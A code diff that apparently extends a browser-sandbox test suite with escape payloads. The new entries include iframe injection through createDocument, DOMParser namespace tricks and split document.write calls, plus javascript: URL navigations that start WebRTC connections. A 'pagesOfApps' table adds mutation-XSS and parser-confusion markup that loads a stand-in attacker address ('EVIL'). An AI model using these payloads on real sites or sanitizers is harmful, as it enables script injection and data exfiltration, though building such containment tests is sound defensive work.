@@ -121,6 +121,19 @@ export const waysOut: Readonly<Record<string, string>> = {
   webrtcNavBlank: `location.href='about:blank'`,
   webrtcDocWrite: `document.open();document.write('<script>('+RTC+')(self)<\\/script>');document.close()`,
   webrtcJsUrl: `location.href='javascript:'+encodeURIComponent('('+RTC+')(self)')`,
+  iframeCreateDocument: `const f=document.implementation.createDocument('http://www.w3.org/1999/xhtml','iframe',null).documentElement;f.srcdoc='<script>('+RTC+')(self)<\\/script><img src="'+E+'">';document.body.append(document.adoptNode(f))`,
+  iframeImportDocument: `const f=document.implementation.createDocument('http://www.w3.org/1999/xhtml','x\u2028:iframe',null).documentElement;f.src=E;document.body.append(document.importNode(f,true))`,
+  iframeForeignPrefix: `const d=new DOMParser().parseFromString('<é:iframe xmlns:é="http://www.w3.org/1999/xhtml" src="'+E+'"/>','text/xml');document.body.append(document.adoptNode(d.documentElement))`,
+  iframeSpacePrefix: `const d=new DOMParser().parseFromString('<\u1680:iframe xmlns:\u1680="http://www.w3.org/1999/xhtml" src="'+E+'"/>','text/xml');document.body.append(document.adoptNode(d.documentElement))`,
+  iframeWriteParts: `document.open();document.write('<ifr');document.write('ame src="'+E+'"></iframe>');document.close()`,
+  iframeWriteInto: `document.write('<ifr')`,
+  iframeTemplate: `const t=document.createElement('template');t.setHTMLUnsafe('<template shadowrootmode=open><iframe src="'+E+'"></iframe></template>');document.body.append(t.content.cloneNode(true))`,
+  linkSanitized: `document.body.setHTML('<link rel=preconnect href="'+E+'"><link rel=stylesheet href="'+E+'">',{sanitizer:{removeElements:[]}})`,
+  linkParsed: `const d=Document.parseHTML('<link rel=stylesheet href="'+E+'">',{sanitizer:{removeElements:[]}});document.head.append(document.adoptNode(d.querySelector('link')))`,
+  xsltInstruction: `const x='<xsl:stylesheet id="s" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html><iframe src="'+E+'"/></html></xsl:template></xsl:stylesheet>';document.body.append(new DOMParser().parseFromString(x,'text/xml').documentElement);document.insertBefore(document.createProcessingInstruction('xml-stylesheet','type="text/xsl" href="#s"'),document.documentElement)`,
+  webrtcJsUrlPage: `location.href='javascript:'+encodeURIComponent(JSON.stringify('<script>('+RTC+')(self)<\\/script><img src="'+E+'">'))`,
+  webrtcJsUrlLink: `const a=document.createElement('a');a.href='javascript:'+encodeURIComponent(JSON.stringify('<script>('+RTC+')(self)<\\/script>'));document.body.append(a);a.click()`,
+  webrtcJsUrlAssign: `location.assign('javascript:'+encodeURIComponent(JSON.stringify('<script>('+RTC+')(self)<\\/script>')))`,
   webrtcProto: `const W=Object.getPrototypeOf(self);for(const k of Reflect.ownKeys(W).concat(Reflect.ownKeys(self)))if(/RTCPeer/i.test(String(k)))RTC(self)`,
 };
 /** What a program would like to read, or to have. Each says what it got, or throws. */
@@ -186,6 +199,12 @@ export const wishes: Readonly<Record<string, string>> = {
   measureUa: `if(!performance.measureUserAgentSpecificMemory)throw new Error('none');await performance.measureUserAgentSpecificMemory();return 'memory'`,
   isolated: `return 'crossOriginIsolated '+crossOriginIsolated`,
   sabThere: `return typeof SharedArrayBuffer`,
+  speech: `speechSynthesis.speak(new SpeechSynthesisUtterance('x'));return 'spoken'`,
+  // Of itself an app has no frame in it: another page in its place has the names that were taken away.
+  otherPage: `location.href='javascript:'+encodeURIComponent(JSON.stringify('<p>'));await new Promise(r=>setTimeout(r,100));if(typeof RTCPeerConnection==='undefined')throw new Error('gone');return 'there'`,
+  frameMade: `const f=document.implementation.createDocument('http://www.w3.org/1999/xhtml','iframe',null).documentElement;document.body.append(document.adoptNode(f));if(frames.length===0)throw new Error('none');return 'a frame'`,
+  frameWritten: `document.write('<ifr');document.write('ame></iframe>');if(frames.length===0)throw new Error('none');return 'a frame'`,
+  framePrefixed: `const d=new DOMParser().parseFromString('<é:iframe xmlns:é="http://www.w3.org/1999/xhtml"/>','text/xml');document.body.append(document.adoptNode(d.documentElement));if(frames.length===0)throw new Error('none');return 'a frame'`,
 };
 
 /** Further ways out of a Worker. `G` is its global object. */
@@ -241,4 +260,22 @@ export const waysByDrawing: Readonly<Record<string, string>> = {
   drawnWords: `G.postMessage({kind:'ops',ops:[['text',900001,'<img src="'+E+'">'],['append',1,900001]]})`,
   drawnSheet: `G.postMessage({kind:'ops',ops:[['sheet',E],['sheet','@import "'+E+'"']]})`,
   toldApp: `['open','navigate','port','frame','begin','fetch','url'].forEach(function(k){G.postMessage({kind:'app',message:{kind:k,url:E,href:E,id:1}});G.postMessage({kind:k,url:E})})`,
+};
+
+/**
+ * Pages of an app, whose markup is the way: what is read before the app runs, and then written. `EVIL` is the address
+ * to ask, and `SCRIPT` begins a peer connection.
+ */
+export const pagesOfApps: Readonly<Record<string, string>> = {
+  pageNoscript: `<noscript><style></noscript><iframe srcdoc="SCRIPT" src="EVIL"></iframe></style></noscript>`,
+  pageNoscriptComment: `<noscript><!--</noscript><iframe srcdoc="SCRIPT"></iframe>--></noscript>`,
+  pageNoscriptTemplate: `<template shadowrootmode=open><noscript><style></noscript><iframe srcdoc="SCRIPT"></iframe><link rel=preconnect href="EVIL"></style></noscript></template>`,
+  pageTemplate: `<template id=t><template><link rel=preconnect href="EVIL"><iframe srcdoc="SCRIPT"></iframe></template></template><script>document.body.append(t.content.firstChild.content.cloneNode(true))</script>`,
+  pageShadow: `<div><template shadowrootmode=open><link rel=preconnect href="EVIL"><iframe src="EVIL"></iframe></template></div>`,
+  pageComment: `<!--x--!><iframe src="EVIL"></iframe>-->`,
+  pageSvg: `<svg><style><!--</style><iframe srcdoc="SCRIPT"></iframe>--></style></svg>`,
+  pageMath: `<form><math><mtext></form><form><mglyph><style></math><iframe src="EVIL"></iframe></style></mglyph></form>`,
+  pageMeta: `<svg><title><meta http-equiv=refresh content="0;url=EVIL"></title></svg>`,
+  pageXmp: `<xmp></xmp><noembed><p title="</noembed><iframe src='EVIL'></iframe>"></noembed>`,
+  pageTail: `<script>document.write('<ifr')</script>ame srcdoc="SCRIPT" src="EVIL"></iframe>`,
 };
